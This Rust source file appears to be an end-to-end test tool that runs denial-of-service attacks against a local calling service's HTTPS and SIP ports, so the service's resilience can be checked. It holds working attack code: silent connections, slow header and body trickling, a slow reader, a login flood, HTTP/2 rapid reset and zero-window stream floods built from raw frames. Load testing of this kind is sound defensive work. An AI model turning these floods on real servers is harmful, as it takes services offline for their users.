//! Somebody on a box's network without an account, who wants calls to be lost. Prints how often
//! each attack was begun.
//!
//!     jawab-attack DESK SIP SECONDS
//!
//! DESK and SIP are ports of 127.0.0.1; it comes from 127.0.1.1 to 127.0.1.24.

use std::collections::BTreeMap;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use anyhow::{Context, Result};
use jawab_e2e::desk::trusting_tls;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

const ADDRESSES: u64 = 24;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// `GET /login` (RFC 7541, appendix A and 6.2.2).
const GET_LOGIN: &[u8] = b"\x82\x87\x44\x06/login\x41\x09localhost";

struct Attacker {
    desk: SocketAddr,
    sip: SocketAddr,
    http1: TlsConnector,
    http2: TlsConnector,
    next: AtomicU64,
    begun: Mutex<BTreeMap<&'static str, u64>>,
}

type Tls = TlsStream<TcpStream>;

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<()> {
    let mut words = std::env::args().skip(1);
    let mut number = |what: &'static str| -> Result<u16> {
        let word = words.next().with_context(|| format!("{what} is missing"))?;
        Ok(word.parse()?)
    };
    let local = |port| SocketAddr::from((Ipv4Addr::LOCALHOST, port));
    let (desk, sip) = (local(number("DESK")?), local(number("SIP")?));
    let seconds = number("SECONDS")?;
    let attacker = Arc::new(Attacker {
        desk,
        sip,
        http1: TlsConnector::from(Arc::new(trusting_tls(b"http/1.1")?)),
        http2: TlsConnector::from(Arc::new(trusting_tls(b"h2")?)),
        next: AtomicU64::new(0),
        begun: Mutex::default(),
    });
    let attacks = [
        again(&attacker, 40, 100, silent_tcp),
        again(&attacker, 20, 200, silent_tls),
        again(&attacker, 20, 200, trickled_head),
        again(&attacker, 20, 200, trickled_body),
        again(&attacker, 6, 200, slow_reader),
        again(&attacker, 60, 2_000, login),
        again(&attacker, 4, 200, rapid_reset),
        again(&attacker, 8, 200, many_streams),
        again(&attacker, 40, 100, silent_sip),
    ];
    sleep(Duration::from_secs(seconds.into())).await;
    for attack in attacks {
        attack.iter().for_each(tokio::task::JoinHandle::abort);
    }
    for (what, times) in &*attacker
        .begun
        .lock()
        .unwrap_or_else(PoisonError::into_inner)
    {
        println!("{what}: {times}");
    }
    Ok(())
}

/// So many at once, each begun again some time after it ended.
fn again<F>(
    attacker: &Arc<Attacker>,
    at_once: usize,
    pause_ms: u64,
    attack: fn(Arc<Attacker>) -> F,
) -> Vec<tokio::task::JoinHandle<()>>
where
    F: Future<Output = Result<()>> + Send + 'static,
{
    let one = || {
        let attacker = attacker.clone();
        tokio::spawn(async move {
            loop {
                // Being thrown out is what it is there for.
                let _ = attack(attacker.clone()).await;
                sleep(Duration::from_millis(pause_ms)).await;
            }
        })
    };
    std::iter::repeat_with(one).take(at_once).collect()
}

impl Attacker {
    fn begins(&self, what: &'static str) {
        let mut begun = self.begun.lock().unwrap_or_else(PoisonError::into_inner);
        *begun.entry(what).or_default() += 1;
    }

    async fn tcp(&self, to: SocketAddr) -> Result<TcpStream> {
        let n = self.next.fetch_add(1, Ordering::Relaxed) % ADDRESSES;
        let from = Ipv4Addr::new(127, 0, 1, u8::try_from(n + 1)?);
        let socket = TcpSocket::new_v4()?;
        socket.set_recv_buffer_size(4_096)?;
        socket.bind((from, 0).into())?;
        Ok(timeout(Duration::from_secs(5), socket.connect(to)).await??)
    }

    async fn tls(&self, by: &TlsConnector) -> Result<Tls> {
        let stream = self.tcp(self.desk).await?;
        let name = ServerName::try_from("localhost")?;
        Ok(timeout(Duration::from_secs(10), by.connect(name, stream)).await??)
    }
}

async fn until_cut(mut stream: impl AsyncReadExt + Unpin) {
    let mut octets = [0; 4_096];
    while stream.read(&mut octets).await.is_ok_and(|read| read > 0) {}
}

async fn trickle(stream: &mut Tls, octets: &[u8]) -> Result<()> {
    for octet in octets.iter().cycle() {
        stream.write_all(&[*octet]).await?;
        stream.flush().await?;
        sleep(Duration::from_millis(500)).await;
    }
    Ok(())
}

async fn silent_tcp(attacker: Arc<Attacker>) -> Result<()> {
    let stream = attacker.tcp(attacker.desk).await?;
    attacker.begins("silent TCP");
    until_cut(stream).await;
    Ok(())
}

async fn silent_tls(attacker: Arc<Attacker>) -> Result<()> {
    let stream = attacker.tls(&attacker.http1).await?;
    attacker.begins("silent TLS");
    until_cut(stream).await;
    Ok(())
}

async fn silent_sip(attacker: Arc<Attacker>) -> Result<()> {
    let stream = attacker.tcp(attacker.sip).await?;
    attacker.begins("silent SIP over TCP");
    until_cut(stream).await;
    Ok(())
}

async fn trickled_head(attacker: Arc<Attacker>) -> Result<()> {
    let mut stream = attacker.tls(&attacker.http1).await?;
    attacker.begins("trickled head");
    stream.write_all(b"GET /login HTTP/1.1\r\n").await?;
    trickle(&mut stream, b"X: y\r\n").await
}

async fn trickled_body(attacker: Arc<Attacker>) -> Result<()> {
    let mut stream = attacker.tls(&attacker.http1).await?;
    attacker.begins("trickled body");
    let head = "POST /login HTTP/1.1\r\nHost: localhost\r\nSec-Fetch-Site: same-origin\r\n\
                Cookie: __Host-door=a\r\nContent-Length: 100000\r\n\
                Content-Type: application/x-www-form-urlencoded\r\n\r\n";
    stream.write_all(head.as_bytes()).await?;
    trickle(&mut stream, b"a").await
}

async fn slow_reader(attacker: Arc<Attacker>) -> Result<()> {
    let mut stream = attacker.tls(&attacker.http1).await?;
    attacker.begins("slow reader");
    for _ in 0..500 {
        let ask = b"GET /login HTTP/1.1\r\nHost: localhost\r\n\r\n";
        stream.write_all(ask).await?;
    }
    loop {
        sleep(Duration::from_secs(1)).await;
        stream.read_u8().await?;
    }
}

async fn login(attacker: Arc<Attacker>) -> Result<()> {
    let mut stream = attacker.tls(&attacker.http1).await?;
    attacker.begins("login");
    let n = attacker.next.load(Ordering::Relaxed);
    let who = if n.is_multiple_of(3) {
        "salma".into()
    } else {
        format!("ghost{n}")
    };
    let form = format!("csrf=a&login={who}&password=xxxxxxxxxxxx");
    let ask = format!(
        "POST /login HTTP/1.1\r\nHost: localhost\r\nSec-Fetch-Site: same-origin\r\n\
         Cookie: __Host-door=a\r\nContent-Length: {}\r\nConnection: close\r\n\
         Content-Type: application/x-www-form-urlencoded\r\n\r\n{form}",
        form.len()
    );
    stream.write_all(ask.as_bytes()).await?;
    until_cut(stream).await;
    Ok(())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

async fn rapid_reset(attacker: Arc<Attacker>) -> Result<()> {
    let mut stream = attacker.tls(&attacker.http2).await?;
    attacker.begins("rapid reset");
    stream.write_all(PREFACE).await?;
    for n in 0..100_000_u32 {
        let mut both = frame(1, 5, 2 * n + 1, GET_LOGIN);
        both.extend(frame(3, 0, 2 * n + 1, &8_u32.to_be_bytes()));
        stream.write_all(&both).await?;
    }
    Ok(())
}

async fn many_streams(attacker: Arc<Attacker>) -> Result<()> {
    let mut stream = attacker.tls(&attacker.http2).await?;
    attacker.begins("many streams");
    stream.write_all(PREFACE).await?;
    // Nothing of the answers is to come: a window of no octets (RFC 9113, 6.5.2).
    stream
        .write_all(&frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]))
        .await?;
    for n in 0..1_000_u32 {
        stream.write_all(&frame(1, 5, 2 * n + 1, GET_LOGIN)).await?;
        sleep(Duration::from_millis(5)).await;
    }
    until_cut(stream).await;
    Ok(())
}
